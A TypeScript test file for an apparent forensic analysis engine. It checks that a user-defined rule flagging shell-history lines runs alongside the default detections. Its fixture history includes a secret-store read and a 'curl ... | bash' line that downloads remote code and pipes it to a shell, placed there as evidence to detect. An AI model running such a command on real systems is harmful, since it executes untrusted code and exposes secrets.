import { describe, expect, it } from 'vitest';
import { defaultAnalyses } from '../../src/analyses/default-analyses.js';
import type { Analysis } from '../../src/engine/analysis.js';
import { analyze } from '../../src/engine/analyze.js';
import { memoryReader } from '../evidence/evidence.js';
import { CONTEXT } from './run.js';

/** Tells who typed one of these words. */
const typed = (words: readonly string[]): Analysis => ({
  id: 'acme.typed',
  begin: ({ artifact }, output) => ({
    visit: ({ path, name }) =>
      !name.endsWith('_history')
        ? undefined
        : {
            wants: 'lines',
            line({ text, number }) {
              if (!words.some((word) => text.includes(word))) return;
              const evidence = [{ artifact, path, line: number }];
              const seen = { title: 'Somebody typed a word of ours', entity: `file:${name}` };
              output.observe({ rule: 'acme.typed', severity: 'low', techniques: [], evidence, ...seen });
            },
          },
  }),
});

describe('an analysis of the user', () => {
  it('walks along with ours, and stops none of them', async () => {
    const history = 'ls\nvault read secret/x\ncurl http://203.0.113.66/x | bash\n';
    const reader = memoryReader({ 'fs/root/.bash_history': history }, 1_763_600_000);
    const rules = new Map<string, number | undefined>();
    for await (const result of analyze(reader, defaultAnalyses({ analyses: [typed(['vault'])] }), CONTEXT))
      if (result.kind === 'observation')
        rules.set(result.observation.rule, result.observation.evidence[0]?.line);
    expect(rules.get('acme.typed')).toBe(2);
    expect(rules.size).toBeGreaterThan(1);
  });
});
